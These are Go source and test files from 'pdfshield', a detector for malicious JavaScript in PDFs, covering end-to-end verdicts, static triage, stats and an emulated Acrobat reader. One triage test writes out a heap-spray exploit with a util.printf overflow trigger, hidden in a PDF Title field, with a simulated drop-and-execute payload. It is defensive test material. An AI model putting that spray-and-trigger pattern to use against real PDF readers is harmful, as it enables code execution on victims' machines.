		v, err := sys.ProcessDocument(s.ID, s.Raw)
		if err != nil {
			t.Fatalf("%s: %v", s.ID, err)
		}
		if v.Malicious {
			t.Errorf("false positive on %s (%s): %+v", s.ID, s.Family, v.Alert)
		}
		if v.Crashed {
			t.Errorf("benign doc crashed reader: %s", s.ID)
		}
		if v.Open != nil && len(v.Open.ScriptErrors) > 0 {
			t.Errorf("%s (%s): script errors %v", s.ID, s.Family, v.Open.ScriptErrors)
		}
	}
}

func TestEndToEndScriptlessOutOfScope(t *testing.T) {
	sys := newSystem(t, 9.0)
	g := corpus.NewGenerator(103)
	s := g.BenignText(64 << 10)
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.NoJavaScript || v.Malicious {
		t.Errorf("verdict = %+v", v)
	}
}

func TestEndToEndAllFamilies(t *testing.T) {
	// Every malicious family on Acrobat 8.0: working exploits alert;
	// noop families don't (they do nothing); crashers may or may not
	// alert depending on obfuscation.
	g := corpus.NewGenerator(104)
	for _, fam := range corpus.MaliciousFamilies() {
		fam := fam
		t.Run(fam, func(t *testing.T) {
			sys := newSystem(t, 8.0)
			s, _ := g.MaliciousFamily(fam)
			v, err := sys.ProcessDocument(s.ID, s.Raw)
			if err != nil {
				t.Fatal(err)
			}
			switch s.Outcome {
			case corpus.OutcomeExploit:
				if !v.Malicious {
					t.Errorf("working exploit undetected; open=%+v errs=%v", v.Open.Exploits, v.Open.ScriptErrors)
				}
				if v.Crashed {
					t.Errorf("unexpected crash: %v", v.Open.ScriptErrors)
				}
			case corpus.OutcomeNoop:
				if v.Malicious {
					t.Errorf("noop sample alerted: %+v", v.Alert)
				}
				if v.Crashed {
					t.Error("noop sample crashed")
				}
			case corpus.OutcomeCrash:
				if !v.Crashed {
					t.Errorf("crasher did not crash: %+v", v.Open.Exploits)
				}
			}
		})
	}
}

func TestEndToEndDetectionOnVersion9(t *testing.T) {
	// mal-newplayer (CVE-2009-4324) works on 9.0 too.
	sys := newSystem(t, 9.0)
	g := corpus.NewGenerator(105)
	s, _ := g.MaliciousFamily("mal-newplayer")
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Errorf("not detected on 9.0: %+v", v.Open)
	}
}

func TestEndToEndDeinstrumentBenign(t *testing.T) {
	sys, err := NewSystem(Options{ViewerVersion: 9.0, Seed: 7, DeinstrumentBenign: true})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sys.Close() }()
	g := corpus.NewGenerator(106)
	s := g.BenignFormJS()
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if v.Malicious {
		t.Fatal("false positive")
	}
	if v.Deinstrumented == nil {
		t.Fatal("no deinstrumented bytes")
	}
	// The registry entry must be gone so the document can be re-processed
	// after later edits.
	if sys.Registry.Len() != 0 {
		t.Errorf("registry len = %d after deinstrument", sys.Registry.Len())
	}
}

func TestMultiDocSessionContextAttribution(t *testing.T) {
	// The paper's core claim: with several documents open in ONE reader
	// process, context-aware monitoring attributes the infection to the
	// right document.
	sys := newSystem(t, 8.0)
	g := corpus.NewGenerator(107)

	benign1 := g.BenignFormJS()
	mal, _ := g.MaliciousFamily("mal-geticon")
	benign2 := g.BenignNavJS()

	rb1, err := sys.Instrumenter.InstrumentBytes(benign1.ID, benign1.Raw)
	if err != nil {
		t.Fatal(err)
	}
	rm, err := sys.Instrumenter.InstrumentBytes(mal.ID, mal.Raw)
	if err != nil {
		t.Fatal(err)
	}
	rb2, err := sys.Instrumenter.InstrumentBytes(benign2.ID, benign2.Raw)
	if err != nil {
		t.Fatal(err)
	}

	sess, err := sys.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()
	if _, err := sess.Open(rb1, reader.OpenOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := sess.Open(rm, reader.OpenOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := sess.Open(rb2, reader.OpenOptions{}); err != nil {
		t.Fatal(err)
	}

	if !sys.Detector.IsMalicious(mal.ID) {
		t.Error("malicious doc not flagged")
	}
	if sys.Detector.IsMalicious(benign1.ID) || sys.Detector.IsMalicious(benign2.ID) {
		t.Error("benign co-open doc wrongly flagged")
	}
	alerts := sys.Detector.Alerts()
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want exactly 1", len(alerts))
	}
	if alerts[0].DocID != mal.ID {
		t.Errorf("alert names %q, want %q", alerts[0].DocID, mal.ID)
	}
}

func TestBenignSOAPNotFalsePositive(t *testing.T) {
	// The paper's near-miss: one benign sample makes a SOAP network access
	// in JS context (one in-JS feature = 9 < 10) and stays benign.
	sys := newSystem(t, 9.0)
	g := corpus.NewGenerator(108)
	s := g.BenignSOAPJS()
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if v.Malicious {
		t.Fatalf("SOAP benign flagged: %+v", v.Alert)
	}
	// But the detector did see the in-JS network op.
	if v.Open == nil || len(v.Open.ScriptErrors) > 0 {
		t.Errorf("open = %+v", v.Open)
	}
}

func TestCrasherCleanIsFalseNegative(t *testing.T) {
	// The unobfuscated crasher reproduces the paper's 25 FNs: process
	// crashes, only F8 fires, score 9 < 10.
	sys := newSystem(t, 8.0)
	g := corpus.NewGenerator(109)
	s, _ := g.MaliciousFamily("mal-crasher-clean")
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Crashed {
		t.Fatal("expected crash")
	}
	if v.Malicious {
		t.Error("clean crasher detected (should be the FN case)")
	}
}

func TestInstrumentedOverheadScriptStillWorks(t *testing.T) {
	// Overhead sanity: instrumented benign doc behaves identically.
	sys := newSystem(t, 9.0)
	g := corpus.NewGenerator(110)
	s := g.BenignMultiScript()
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if v.Open.JSRuns == 0 {
		t.Error("no scripts ran")
	}
	if len(v.Open.ScriptErrors) > 0 {
		t.Errorf("instrumented scripts failed: %v", v.Open.ScriptErrors)
	}
}

func TestEmbeddedMaliciousAttachmentDetected(t *testing.T) {
	// §VI extension: a scriptless host with a malicious PDF attachment.
	// The front-end instruments the attachment; opening it in the same
	// session convicts the host document the user received.
	sys := newSystem(t, 8.0)
	g := corpus.NewGenerator(111)
	s, ok := g.MaliciousFamily("mal-embedded")
	if !ok {
		t.Fatal("family missing")
	}
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if v.NoJavaScript {
		t.Fatal("embedded JS should keep the host in scope")
	}
	if !v.Malicious {
		t.Fatalf("embedded attack missed: %+v", v.Open)
	}
	if v.Alert == nil || !strings.Contains(v.Alert.DocID, "::embedded-") {
		t.Errorf("alert should name the attachment: %+v", v.Alert)
	}
}
