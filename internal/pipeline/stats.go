package pipeline

import (
	"strings"

	"pdfshield/internal/cache"
	"pdfshield/internal/js"
	"pdfshield/internal/obs"
)

// Stats is a consolidated point-in-time snapshot of a running System:
// document outcomes, per-phase latency, detector activity, front-end
// cache counters and quarantine state, all sourced from the same obs
// registry the Prometheus and expvar endpoints read. It marshals cleanly
// to JSON, so callers can log or ship it as-is.
//
// Note that when several Systems share one registry (the default
// obs.Default), Docs/Phases/Detect aggregate across all of them, while
// Cache and Quarantined are always this System's own.
type Stats struct {
	Docs   DocStats              `json:"docs"`
	Phases map[string]PhaseStats `json:"phases,omitempty"`
	Detect DetectStats           `json:"detect"`
	// Cache snapshots the front-end cache (nil when the System runs
	// without one).
	Cache *cache.Stats `json:"cache,omitempty"`
	// JSUnits snapshots the compiled-unit cache backing this System's
	// script interpreters (the process-wide js.DefaultUnits unless
	// Options.JSUnits isolated one).
	JSUnits js.UnitCacheStats `json:"js_units"`
	// Triage counts the static triage tier's routing decisions (all zero
	// when Options.Triage is off).
	Triage TriageStats `json:"triage"`
	// Quarantined is how many artifacts runtime confinement has isolated.
	Quarantined int `json:"quarantined"`
	// SLO is the per-objective burn-rate status, Flight the flight
	// recorder occupancy, and Watchdog the stall watchdog state (all
	// empty/nil when Options.Diag.Disable turned diagnostics off).
	SLO      []obs.SLOStatus    `json:"slo,omitempty"`
	Flight   *obs.FlightStats   `json:"flight,omitempty"`
	Watchdog *obs.WatchdogStats `json:"watchdog,omitempty"`
	// BatchQueueDepth and BatchWorkers reflect in-flight ProcessBatch
	// calls; SessionsActive counts open reader sessions.
	BatchQueueDepth int64 `json:"batch_queue_depth"`
	BatchWorkers    int64 `json:"batch_workers"`
	SessionsActive  int64 `json:"sessions_active"`
}

// DocStats counts per-document pipeline outcomes. Total = Malicious +
// Benign + NoJavaScript + Errored; Crashed overlaps Malicious/Benign
// (a crashed reader still gets a verdict), and PanicsContained overlaps
// Errored.
type DocStats struct {
	Total           uint64 `json:"total"`
	Malicious       uint64 `json:"malicious"`
	Benign          uint64 `json:"benign"`
	NoJavaScript    uint64 `json:"no_javascript"`
	Crashed         uint64 `json:"crashed"`
	Errored         uint64 `json:"errored"`
	PanicsContained uint64 `json:"panics_contained"`
}

// PhaseStats summarizes one phase's latency histogram.
type PhaseStats struct {
	Count        uint64  `json:"count"`
	TotalSeconds float64 `json:"total_seconds"`
	MeanSeconds  float64 `json:"mean_seconds"`
}

// DetectStats counts front-end and runtime detector activity.
type DetectStats struct {
	Alerts           uint64 `json:"alerts"`
	FakeMessages     uint64 `json:"fake_messages"`
	DocsInstrumented uint64 `json:"docs_instrumented"`
	Scripts          uint64 `json:"scripts_instrumented"`
	StagedRewrites   uint64 `json:"staged_rewrites"`
	// FeatureTriggers maps detector feature names ("F5:process-creation",
	// ...) to how many per-document vectors set them.
	FeatureTriggers map[string]uint64 `json:"feature_triggers,omitempty"`
}

// TriageStats counts static triage routes: Benign skipped the sandbox,
// Malicious were convicted without an open, Uncertain fell through to
// the full dynamic tier.
type TriageStats struct {
	Benign    uint64 `json:"benign"`
	Malicious uint64 `json:"malicious"`
	Uncertain uint64 `json:"uncertain"`
}

// Stats snapshots the System's observability registry into the
// consolidated form. The end-to-end document latency appears under the
// phase key "total" alongside the per-phase entries.
func (s *System) Stats() Stats {
	snap := s.Obs.Snapshot()
	st := Stats{
		Docs: DocStats{
			Total:           snap.Counters[obs.MetricDocsTotal],
			Malicious:       snap.Counters[obs.MetricDocsMalicious],
			NoJavaScript:    snap.Counters[obs.MetricDocsNoJS],
			Crashed:         snap.Counters[obs.MetricDocsCrashed],
			Errored:         snap.Counters[obs.MetricDocsErrored],
			PanicsContained: snap.Counters[obs.MetricPanics],
		},
		Detect: DetectStats{
			Alerts:           snap.Counters[obs.MetricAlerts],
			FakeMessages:     snap.Counters[obs.MetricFakeMessages],
			DocsInstrumented: snap.Counters[obs.MetricDocsInstrumented],
			Scripts:          snap.Counters[obs.MetricScripts],
			StagedRewrites:   snap.Counters[obs.MetricStagedRewrites],
		},
		Quarantined:     s.OS.QuarantineCount(),
		BatchQueueDepth: int64(snap.Gauges[obs.MetricBatchQueueDepth]),
		BatchWorkers:    int64(snap.Gauges[obs.MetricBatchWorkers]),
		SessionsActive:  int64(snap.Gauges[obs.MetricSessionsActive]),
	}
	// The counted outcomes are disjoint, so benign falls out of the total.
	counted := st.Docs.Malicious + st.Docs.NoJavaScript + st.Docs.Errored
	if st.Docs.Total > counted {
		st.Docs.Benign = st.Docs.Total - counted
	}
	for series, hs := range snap.Histograms {
		base, _ := obs.SplitSeries(series)
		var key string
		switch base {
		case obs.MetricPhaseSeconds:
			key = obs.LabelValue(series, "phase")
		case obs.MetricDocSeconds:
			key = "total"
		default:
			continue
		}
		if st.Phases == nil {
			st.Phases = make(map[string]PhaseStats)
		}
		st.Phases[key] = PhaseStats{
			Count:        hs.Count,
			TotalSeconds: hs.SumSeconds,
			MeanSeconds:  hs.Mean(),
		}
	}
	for series, n := range snap.Counters {
		if strings.HasPrefix(series, obs.MetricTriageRoutes+"{") {
			switch obs.LabelValue(series, "route") {
			case "benign":
				st.Triage.Benign = n
			case "malicious":
				st.Triage.Malicious = n
			case "uncertain":
				st.Triage.Uncertain = n
			}
			continue
		}
		if !strings.HasPrefix(series, obs.MetricFeatureTriggers+"{") {
			continue
		}
		if st.Detect.FeatureTriggers == nil {
			st.Detect.FeatureTriggers = make(map[string]uint64)
		}
		st.Detect.FeatureTriggers[obs.LabelValue(series, "feature")] = n
	}
	if cs, ok := s.CacheStats(); ok {
		st.Cache = &cs
	}
	st.JSUnits = s.jsUnits.Stats()
	if s.diag != nil {
		st.SLO = s.diag.SLO.Status()
		fs := s.diag.Flight.Stats()
		st.Flight = &fs
		ws := s.diag.Watchdog.Stats()
		st.Watchdog = &ws
	}
	return st
}
