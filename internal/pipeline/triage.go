package pipeline

import (
	"strings"
	"time"

	"pdfshield/internal/detect"
	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/triage"
)

// runTriage executes the static triage tier for one submission under
// the given configuration (from the resolved depth profile), records
// its telemetry (trace span, latency histogram, route counter, journal
// event) and returns the decision. A nil config means the tier is off
// for this depth and the document takes the dynamic path
// unconditionally.
//
// Triage runs per submission, never from the front-end cache: the stage
// is cheap enough that caching it would only buy the cost of a map
// lookup, and running it fresh keeps the journal's per-document story
// complete (every submission gets its own TypeTriage event).
func (s *System) runTriage(docID string, raw []byte, res *instrument.Result, tr *obs.Trace, cfg *triage.Config) *triage.Decision {
	if cfg == nil {
		return nil
	}
	tr.MarkPhase(obs.PhaseTriage)
	start := time.Now()
	d := triage.Evaluate(*cfg, raw, res)
	dur := time.Since(start)
	tr.AddSpan(obs.PhaseTriage, tr.Offset(start), dur)
	s.Obs.Observe(obs.MetricTriageSeconds, dur)
	s.Obs.Observe(obs.PhaseSeries(obs.PhaseTriage), dur)
	s.Obs.Inc(obs.Series(obs.MetricTriageRoutes, "route", string(d.Route)))
	s.journalTriage(docID, res, &d)
	return &d
}

// journalTriage records the routing decision for every submission (all
// three routes, so the stream shows why a document did or did not reach
// a reader). TypeTriage is non-canonical: replay determinism is keyed on
// the detector's event stream, which a statically routed document never
// produces.
func (s *System) journalTriage(docID string, res *instrument.Result, d *triage.Decision) {
	if s.opts.Journal == nil {
		return
	}
	e := journal.Event{T: journal.TypeTriage, DocID: docID}
	if res != nil {
		e.Key = res.Key.InstrKey
	}
	e.Triage = &journal.Triage{
		Route:     string(d.Route),
		Score:     d.Score,
		Signals:   d.Signals,
		Uncertain: d.Uncertain,
		Static:    d.Census.Static[:],
		Scripts:   d.Scripts,
	}
	s.opts.Journal.Append(e)
}

// verdictFromTriage synthesizes the verdict for a statically routed
// document. No reader session exists: the runtime features F6–F13 stay
// zero and the FeatureVector carries only the static F1–F5 slots.
//
//   - RouteBenign: the fast path. DeinstrumentBenign deliberately does
//     NOT apply here — the instrumented artifact was never opened, so
//     there is no monitored session whose end would trigger restoration,
//     and retiring the key would evict the cached front-end result the
//     fast path exists to reuse.
//   - RouteMalicious: convicted without an open (the strongest
//     confinement available — the exploit never runs). The synthesized
//     alert carries the triage score as its malscore and the signal list
//     as its cause, so journal and operator tooling render it like any
//     runtime alert.
//   - RouteUncertain (DepthStatic only — other depths escalate it): the
//     document stays unconvicted and the route annotation records that
//     static evidence was inconclusive.
func (s *System) verdictFromTriage(docID string, res *instrument.Result, d *triage.Decision, prof depthProfile) *Verdict {
	v := &Verdict{
		DocID:       docID,
		Instrument:  res,
		TriageRoute: string(d.Route),
		Triage:      d,
		Depth:       string(prof.depth),
	}
	for i := 0; i < len(d.Census.Static) && i < detect.NumFeatures; i++ {
		v.FeatureVector[i] = d.Census.Static[i]
	}
	if d.Route == triage.RouteMalicious {
		v.Malicious = true
		v.Alert = &detect.Alert{
			DocID:    docID,
			InstrKey: res.Key.InstrKey,
			Malscore: d.Score,
			Features: v.FeatureVector,
			Reason:   "triage-static",
			Cause:    strings.Join(d.Signals, ","),
		}
	}
	return v
}

// annotateTriage attaches an uncertain-route decision to the dynamic
// tier's verdict, so callers can tell a triage-vetted open from a
// triage-disabled one.
func annotateTriage(v *Verdict, d *triage.Decision) {
	if v == nil || d == nil {
		return
	}
	v.TriageRoute = string(d.Route)
	v.Triage = d
}
