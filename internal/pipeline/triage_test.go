package pipeline

import (
	"bytes"
	"fmt"
	"testing"

	"pdfshield/internal/attack"
	"pdfshield/internal/corpus"
	"pdfshield/internal/detect"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/pdf"
	"pdfshield/internal/triage"
	"pdfshield/internal/winos"
)

// triageSystem builds a triage-enabled system on a private registry.
func triageSystem(t *testing.T, seed int64, j *journal.Writer) *System {
	t.Helper()
	sys, err := NewSystem(Options{
		ViewerVersion: 8.0,
		Seed:          seed,
		Obs:           obs.NewRegistry(),
		Journal:       j,
		Triage:        &triage.Config{},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })
	return sys
}

// TestTriageNeverFastPathsMalicious is the pinned safety invariant behind
// the fast path: no sample from the malicious corpus — every generator
// family plus the mimicry attacks from internal/attack — may ever route
// confident-benign, and enabling triage may never un-convict a document
// the dynamic tier convicts.
func TestTriageNeverFastPathsMalicious(t *testing.T) {
	var docs []BatchDoc
	for _, seed := range []int64{7, 99} {
		g := corpus.NewGenerator(seed)
		for _, fam := range corpus.MaliciousFamilies() {
			s, ok := g.MaliciousFamily(fam)
			if !ok {
				t.Fatalf("unknown family %s", fam)
			}
			docs = append(docs, BatchDoc{ID: fmt.Sprintf("%s-%d", s.ID, seed), Raw: s.Raw})
		}
		m := attack.MimicrySample(seed)
		docs = append(docs, BatchDoc{ID: fmt.Sprintf("%s-%d", m.ID, seed), Raw: m.Raw})
	}

	on := triageSystem(t, 42, nil)
	off, err := NewSystem(Options{ViewerVersion: 8.0, Seed: 42, Obs: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = off.Close() }()

	resOn := on.ProcessBatchContext(t.Context(), docs, BatchOptions{Workers: 2})
	resOff := off.ProcessBatchContext(t.Context(), docs, BatchOptions{Workers: 2})
	for i, doc := range docs {
		if resOn.Errors[i] != nil || resOff.Errors[i] != nil {
			t.Errorf("%s: on err=%v off err=%v", doc.ID, resOn.Errors[i], resOff.Errors[i])
			continue
		}
		vOn, vOff := resOn.Verdicts[i], resOff.Verdicts[i]
		if vOn.TriageRoute == string(triage.RouteBenign) {
			t.Errorf("%s: malicious sample took the fast path: %+v", doc.ID, vOn.Triage)
		}
		if vOff.Malicious && !vOn.Malicious {
			t.Errorf("%s: dynamic tier convicts but triage-on run does not (route %s)",
				doc.ID, vOn.TriageRoute)
		}
		if vOn.TriageRoute == string(triage.RouteMalicious) {
			if !vOn.Malicious || vOn.Alert == nil || vOn.Alert.Reason != "triage-static" {
				t.Errorf("%s: static conviction missing its alert: %+v", doc.ID, vOn.Alert)
			}
			if vOn.Open != nil {
				t.Errorf("%s: statically convicted document was still opened", doc.ID)
			}
		}
	}
	if st := on.Stats().Triage; st.Benign != 0 {
		t.Errorf("triage stats report %d benign routes on an all-malicious batch", st.Benign)
	}
}

// TestTriageMismatchFallsToSandbox covers the static-benign / dynamic-
// malicious gap the fail-safe routing exists for: the document's only
// script is eval(this.info.title) — statically clean except for the
// dynamic eval, which the abstract interpreter cannot resolve — while the
// title holds the actual spray-and-trigger exploit. Triage must route it
// uncertain (never benign), and the dynamic tier must then convict it.
func TestTriageMismatchFallsToSandbox(t *testing.T) {
	exploit := `var p = "PAYLOAD:DROP=C:\\tmp\\mm.exe;EXEC=C:\\tmp\\mm.exe|";` + "\n" +
		`var n = unescape("%0c%0c%0c%0c");` + "\n" +
		`while (n.length < 524288) n += n;` + "\n" +
		`var b = [];` + "\n" +
		`for (var i = 0; i < 230; i++) b[i] = n + p;` + "\n" +
		`util.printf("%45000f", 0.01);`
	d := pdf.NewDocument()
	info := d.Add(pdf.Dict{"Title": pdf.String{Value: []byte(exploit)}})
	jsObj := d.Add(pdf.String{Value: []byte(`eval(this.info.title);`)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsObj})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	d.Trailer["Info"] = info
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}

	sys := triageSystem(t, 5, nil)
	v, err := sys.ProcessDocumentContext(t.Context(), "title-mismatch", raw)
	if err != nil {
		t.Fatal(err)
	}
	if v.TriageRoute != string(triage.RouteUncertain) {
		t.Fatalf("route = %q, want uncertain (decision %+v)", v.TriageRoute, v.Triage)
	}
	if !v.Malicious {
		t.Fatalf("dynamic tier missed the title-hidden exploit: %+v", v)
	}
	if v.Open == nil {
		t.Fatal("uncertain route skipped the reader open")
	}
}

// TestTriageBenignParity proves the fast path changes throughput, not
// verdicts: the benign-with-JS population gets identical Malicious flags
// with triage on and off, a majority skips the sandbox entirely, and the
// route counters in Stats agree with the verdicts.
func TestTriageBenignParity(t *testing.T) {
	g := corpus.NewGenerator(31)
	var docs []BatchDoc
	for _, s := range g.BenignWithJS(40) {
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}

	on := triageSystem(t, 17, nil)
	off, err := NewSystem(Options{ViewerVersion: 8.0, Seed: 17, Obs: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = off.Close() }()

	resOn := on.ProcessBatchContext(t.Context(), docs, BatchOptions{Workers: 2})
	resOff := off.ProcessBatchContext(t.Context(), docs, BatchOptions{Workers: 2})
	fast := 0
	for i, doc := range docs {
		if resOn.Errors[i] != nil || resOff.Errors[i] != nil {
			t.Fatalf("%s: on err=%v off err=%v", doc.ID, resOn.Errors[i], resOff.Errors[i])
		}
		vOn, vOff := resOn.Verdicts[i], resOff.Verdicts[i]
		if vOn.Malicious != vOff.Malicious {
			t.Errorf("%s: triage changed the verdict: on=%v off=%v (route %s)",
				doc.ID, vOn.Malicious, vOff.Malicious, vOn.TriageRoute)
		}
		switch vOn.TriageRoute {
		case string(triage.RouteBenign):
			fast++
			if vOn.Open != nil {
				t.Errorf("%s: benign route still opened a reader", doc.ID)
			}
		case string(triage.RouteUncertain):
			if vOn.Open == nil {
				t.Errorf("%s: uncertain route skipped the open", doc.ID)
			}
		default:
			t.Errorf("%s: benign corpus sample routed %q", doc.ID, vOn.TriageRoute)
		}
	}
	if fast*2 < len(docs) {
		t.Errorf("only %d/%d benign documents took the fast path", fast, len(docs))
	}
	st := on.Stats().Triage
	if int(st.Benign) != fast || st.Malicious != 0 ||
		int(st.Benign+st.Uncertain) != len(docs) {
		t.Errorf("triage stats %+v disagree with verdicts (fast=%d, docs=%d)", st, fast, len(docs))
	}
}

// TestTriageReplayDeterminism re-runs the golden replay invariant with the
// triage tier enabled: statically routed documents contribute journal
// context (TypeTriage, verdicts) but no canonical detector events, so the
// recorded stream still replays diff-free, and every routed document's
// journaled verdict is consistent with its journaled route.
func TestTriageReplayDeterminism(t *testing.T) {
	var buf bytes.Buffer
	w := journal.NewWriter(&buf, journal.Options{Session: "live"})
	sys := triageSystem(t, 271, w)

	res := sys.ProcessBatchContext(t.Context(), journalCorpus(), BatchOptions{Workers: 4})
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d documents failed: %v", n, res.Errors)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	recorded, err := journal.Read(&buf)
	if err != nil {
		t.Fatal(err)
	}

	routes := make(map[string]string)
	verdicts := make(map[string]*journal.Verdict)
	canonicalKeys := make(map[string]bool)
	for _, e := range recorded {
		switch e.T {
		case journal.TypeTriage:
			routes[e.DocID] = e.Triage.Route
		case journal.TypeVerdict:
			verdicts[e.DocID] = e.Verdict
		default:
			if e.Canon() != "" && e.Key != "" {
				canonicalKeys[e.Key] = true
			}
		}
	}
	if len(routes) == 0 {
		t.Fatal("no triage events recorded")
	}
	for docID, route := range routes {
		v, ok := verdicts[docID]
		if !ok {
			t.Errorf("%s: triage event without a verdict", docID)
			continue
		}
		switch route {
		case "benign":
			if v.Malicious {
				t.Errorf("%s: benign route but malicious verdict", docID)
			}
		case "malicious":
			if !v.Malicious {
				t.Errorf("%s: malicious route but benign verdict", docID)
			}
		}
	}

	// Statically routed documents never reach a reader, so their keys must
	// be absent from the canonical detector stream.
	for _, e := range recorded {
		if e.T != journal.TypeTriage || e.Triage.Route == "uncertain" || e.Key == "" {
			continue
		}
		if canonicalKeys[e.Key] {
			t.Errorf("%s: statically routed key %s has canonical detector events", e.DocID, e.Key)
		}
	}

	var repBuf bytes.Buffer
	rep := journal.NewWriter(&repBuf, journal.Options{Session: "replay"})
	det2, err := detect.New(detect.Config{
		Registry: sys.Registry,
		OS:       winos.NewOS(),
		Obs:      obs.NewRegistry(),
		Journal:  rep,
	})
	if err != nil {
		t.Fatal(err)
	}
	stats := journal.Replay(recorded, det2)
	if stats.Notifies == 0 || stats.Hooks == 0 {
		t.Fatalf("replay fed nothing: %+v", stats)
	}
	if err := rep.Flush(); err != nil {
		t.Fatal(err)
	}
	replayed, err := journal.Read(&repBuf)
	if err != nil {
		t.Fatal(err)
	}
	if diffs := journal.Diff(recorded, replayed); len(diffs) != 0 {
		for _, d := range diffs {
			t.Error(d)
		}
		t.Fatalf("replay diverged in %d place(s)", len(diffs))
	}
}
