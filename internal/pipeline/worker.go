package pipeline

import "context"

// Worker is one long-lived scanning lane: it processes documents one at a
// time through the same recycled-session path the batch engine's pool
// workers use (lazy session creation, Recycle between documents, panic
// containment with session discard), but with the caller owning the
// document feed. A long-running service keeps one Worker per concurrency
// slot and pushes documents as they arrive, instead of buffering arrivals
// into ProcessBatchContext calls.
//
// A Worker is NOT safe for concurrent use — it owns a single reader
// session. Concurrency comes from running several Workers, exactly like
// the batch pool; every shared component underneath (instrumenter,
// registry, detector, cache) is concurrency-safe across Workers.
type Worker struct {
	sys   *System
	sess  *Session
	depth Depth
}

// NewWorker creates an idle worker lane. The session is dialled lazily on
// the first Process call.
func (s *System) NewWorker() *Worker {
	return &Worker{sys: s}
}

// Process runs one document end to end and returns its verdict. Failures
// are per-document: an error (including a contained analysis panic) leaves
// the worker usable for the next document.
func (w *Worker) Process(ctx context.Context, doc BatchDoc) (*Verdict, error) {
	if ctx == nil {
		ctx = context.Background()
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return w.sys.processWithSession(ctx, &w.sess, doc, w.depth)
}

// SetDepth pins this worker lane to a scan depth override (empty =
// inherit the system's Options.Depth / legacy resolution). Call before
// the first Process; a Worker is single-goroutine by contract so no
// locking applies.
func (w *Worker) SetDepth(d Depth) { w.depth = d }

// Close releases the worker's reader session, if one was ever dialled.
func (w *Worker) Close() {
	if w.sess != nil {
		w.sess.Close()
		w.sess = nil
	}
}
