package reader

import (
	"fmt"
	"strings"

	"pdfshield/internal/js"
	"pdfshield/internal/pdf"
	"pdfshield/internal/soapsrv"
)

// newDocInterp builds a Javascript interpreter for one open document with
// the Acrobat API surface installed: app, this (Doc), util, Collab, media,
// spell, SOAP, Net, plus printSeps. Vulnerable entry points feed the
// exploit emulator.
func (p *Process) newDocInterp(od *OpenDoc) *js.Interp {
	it := js.New()
	it.StepLimit = p.cfg.StepLimit
	it.MaxHeap = p.cfg.MaxHeap
	it.Units = p.cfg.Units
	it.TreeWalk = p.cfg.TreeWalkJS
	it.OnAlloc = func(delta int64) {
		p.jsHeapBytes += delta
		od.heapBytes += delta
		if p.jsHeapBytes-p.lastSampledHeap >= memSampleStepBytes {
			p.lastSampledHeap = p.jsHeapBytes
			p.emitMemSample()
		}
	}
	it.OnLargeString = func(s string) {
		// Keep only blocks that could carry a payload program, bounded.
		if !strings.Contains(s, PayloadMarker) {
			return
		}
		if len(od.sprayBlocks) >= maxSprayBlocks {
			copy(od.sprayBlocks, od.sprayBlocks[1:])
			od.sprayBlocks[len(od.sprayBlocks)-1] = s
			return
		}
		od.sprayBlocks = append(od.sprayBlocks, s)
	}

	g := it.Global
	g.Declare("app", js.ObjectValue(p.buildApp(od)))
	docObj := p.buildDoc(od)
	it.This = js.ObjectValue(docObj)
	g.Declare("event", js.ObjectValue(js.NewHostObject("event")))
	g.Declare("util", js.ObjectValue(p.buildUtil(od)))
	g.Declare("Collab", js.ObjectValue(p.buildCollab(od)))
	g.Declare("media", js.ObjectValue(p.buildMedia(od)))
	g.Declare("spell", js.ObjectValue(p.buildSpell(od)))
	g.Declare("SOAP", js.ObjectValue(p.buildSOAP(od)))
	g.Declare("Net", js.ObjectValue(p.buildNet()))
	g.Declare("Date", buildDate())
	return it
}

// The simulated wall clock, frozen at 2013-06-01 00:00:00 UTC (the corpus
// collection era; util.printd renders the same day). A frozen clock keeps
// opens deterministic — journal replay depends on it — and models the
// analysis-time snapshot an instrumented reader takes: time-gated payloads
// ("run only after 2015") stay dormant naturally and are reached only by
// the forced-execution deep-scan tier, while timing checks ("did real
// milliseconds elapse?") always read zero elapsed.
const (
	simClockMillis = 1370044800000
	simClockYear   = 2013
	simClockMonth  = 5 // zero-based June
	simClockDate   = 1
	simClockDay    = 6 // Saturday
)

// buildDate returns the Date constructor. new Date() and Date() both
// produce a date object pinned to the simulated clock regardless of
// arguments (documents in the corpus only ever read the current time).
func buildDate() js.Value {
	return hostFn("Date", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		d := js.NewHostObject("Date")
		millis := func(name string) js.Value {
			return hostFn(name, func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
				return js.NumberValue(simClockMillis), nil
			})
		}
		num := func(name string, v float64) js.Value {
